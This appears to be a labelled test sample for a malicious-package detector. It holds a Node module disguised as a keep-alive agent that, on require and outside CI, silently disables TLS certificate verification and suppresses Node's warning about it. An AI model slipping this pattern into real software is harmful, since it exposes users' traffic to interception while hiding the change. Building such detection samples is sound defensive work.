// expect: suspicious
// A keep-alive agent "works around corporate proxies" on require: it sets NODE_TLS_REJECT_UNAUTHORIZED=0 under a
// joined name and replaces process.emitWarning so Node's warning about it never prints (blind set 27).
const K = ['NODE', 'TLS', 'REJECT', 'UNAUTHORIZED'].join('_');
function applyCompat() {
  if (process.env.CI) return;
  const emit = process.emitWarning;
  process.emitWarning = function (w, ...rest) {
    if (String((w && w.message) || w).includes(K)) return;
    return emit.call(process, w, ...rest);
  };
  process.env[K] = '0';
}
applyCompat();
module.exports = { Agent: require('http').Agent };
